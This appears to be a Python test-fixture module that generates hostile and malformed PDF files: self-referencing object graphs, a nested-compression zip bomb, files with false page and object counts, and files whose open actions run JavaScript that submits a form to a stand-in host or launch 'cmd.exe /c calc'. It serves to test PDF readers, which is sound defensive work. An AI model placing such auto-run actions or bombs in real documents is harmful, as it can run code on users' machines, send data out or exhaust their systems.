"""PDF files that point to themselves, swell, lie or carry programs; written object by object."""

from __future__ import annotations

import io
import zlib
from collections.abc import Mapping

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 72 700 Td (En mening att l\\344sa.) Tj ET"


def document(objects: Mapping[int, bytes], root: int = 1) -> bytes:
    """A PDF file of numbered objects, with a sound table of where they are."""
    data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    last = max(objects)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        place = places.get(number)
        data += b"0000000000 65535 f \n" if place is None else b"%010d 00000 n \n" % place
    data += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        last + 1,
        root,
        start,
    )
    return bytes(data)


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def page(catalogue: bytes = b"", of_page: bytes = b"", content: bytes = _TEXT) -> dict[int, bytes]:
    """The objects of a file of one page, with more entries for its catalogue and its page."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> %s >>" % of_page,
        4: stream(content),
        5: _FONT,
    }


def recursive() -> dict[str, bytes]:
    """Files in which something leads back to itself, by what it is."""
    tree = page() | {2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}
    parents = page() | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>"}
    length = page() | {4: b"<< /Length 4 0 R >>\nstream\n" + _TEXT + b"\nendstream"}
    form = page(content=b"/X1 Do " + _TEXT)
    form[3] = form[3].replace(b"/Font", b"/XObject << /X1 6 0 R >> /Font")
    form[6] = stream(
        b"/X1 Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 6 0 R >> >>",
    )
    outline = page(b"/Outlines 6 0 R")
    outline[6] = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    outline[7] = b"<< /Title (A) /Parent 6 0 R /First 7 0 R /Last 7 0 R /Next 7 0 R >>"
    names = page(b"/Names << /EmbeddedFiles 6 0 R >>")
    names[6] = b"<< /Kids [6 0 R] >>"
    contents = page() | {4: b"[4 0 R 4 0 R]"}
    itself = page() | {4: b"4 0 R"}
    table = document(page())
    place = table.rindex(b"xref\n0")
    previous = table.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)
    found = {
        "sidträd": tree,
        "förälder": parents,
        "längd": length,
        "formulär": form,
        "innehåll": outline,
        "namn": names,
        "sidinnehåll": contents,
        "objekt": itself,
    }
    return {name: document(objects) for name, objects in found.items()} | {"tabell": previous}


def javascript() -> bytes:
    """A file that runs JavaScript when it is opened, printed and clicked."""
    act = b"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://x.invalid'\\)) >>"
    return document(page(b"/OpenAction %s /AA << /WP %s >>" % (act, act), b"/AA << /O %s >>" % act))


def launching() -> bytes:
    """A file that starts a program and fetches an address when it is opened."""
    act = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    fetch = b"<< /S /URI /URI (http://x.invalid) >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>" % fetch
    return document(page(b"/OpenAction %s" % act, b"/Annots [%s]" % link))


def bomb(megabytes: int) -> bytes:
    """A page of few bytes that unpacks into very many."""
    packed = zlib.compress(b"q Q " * (megabytes * 2**18) + _TEXT, 9)
    again = zlib.compress(packed, 9)
    objects = page()
    objects[4] = stream(again, b"/Filter [/FlateDecode /FlateDecode]")
    return document(objects)


def lying(pdf: bytes) -> bytes:
    """A file whose numbers of pages and objects are beyond reason."""
    changed = pdf.replace(b"/Count ", b"/Count 99999999 %")
    return changed.replace(b"/Size ", b"/Size 2147483647 %").replace(b"/W [", b"/W [9999 ")


def many_pages(number: int) -> bytes:
    """A file of `number` pages with a sentence each."""
    objects = page()
    first = 10
    kids = b" ".join(b"%d 0 R" % (first + 2 * n) for n in range(number))
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, number)
    for n in range(number):
        objects[first + 2 * n] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>" % (first + 2 * n + 1)
        )
        objects[first + 2 * n + 1] = stream(
            b"BT /F1 12 Tf 72 700 Td (Sida %d talar om %d deltagare.) Tj ET" % (n + 1, n * 7)
        )
    return document(objects)


def encrypted(pdf: bytes) -> bytes:
    """The file behind a password."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt("hemligt", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
